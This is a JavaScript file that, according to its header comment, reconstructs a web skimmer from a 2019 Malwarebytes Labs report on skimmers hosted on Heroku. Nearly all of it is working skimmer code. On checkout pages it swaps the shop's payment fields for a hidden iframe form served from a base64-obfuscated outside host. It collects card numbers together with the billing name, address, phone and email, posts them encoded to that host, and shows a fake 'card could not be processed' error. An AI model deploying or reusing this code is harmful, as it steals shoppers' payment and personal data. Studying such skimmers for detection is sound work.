// heroku-frame, written from Malwarebytes Labs (Jérôme Segura), "There's an app for that: web
// skimmers found on PaaS Heroku" (2019): the injected script, on checkout pages only, adds a
// hidden iframe from an app on a free cloud platform (address kept base64) that draws a card
// form; the shop's own payment fields are hidden and the frame's form shown in their place;
// the frame posts the typed card back to the page, which adds the billing address, sends it all
// base64 to the same app, then shows an error and brings the real form back.
(function () {
  if (location.href.indexOf("checkout") === -1) return;
  var app = atob("aHR0cHM6Ly9mcmVzaC1tZWFkb3ctNDQxMi5wYWFzLWFwcHMuaW52YWxpZA==");
  var real = document.querySelector(".payment-method-content, #payment_form, .payment-fields");
  if (!real) return;
  var fr = document.createElement("iframe");
  fr.src = app + "/payment.html?lang=" + (document.documentElement.lang || "en");
  fr.style.cssText = "width:100%;height:230px;border:none;display:none";
  real.parentNode.insertBefore(fr, real);
  fr.onload = function () { real.style.display = "none"; fr.style.display = "block"; };
  window.addEventListener("message", function (e) {
    if (e.origin !== app) return;
    var m;
    try { m = JSON.parse(e.data); } catch (err) { return; }
    if (!m || m.t !== "cc") return;
    var bill = {};
    ["firstname", "lastname", "street[0]", "city", "postcode", "telephone", "country_id"].forEach(function (n) {
      var el = document.querySelector("[name='" + n + "']");
      if (el) bill[n] = el.value;
    });
    bill.email = (document.getElementById("customer-email") || {}).value;
    var xhr = new XMLHttpRequest();
    xhr.open("POST", app + "/save", true);
    xhr.send(btoa(JSON.stringify({ c: m.c, b: bill, h: location.host })));
    fr.parentNode.removeChild(fr);
    real.style.display = "";
    alert("Your card could not be processed. Please enter your card details again.");
  });
})();
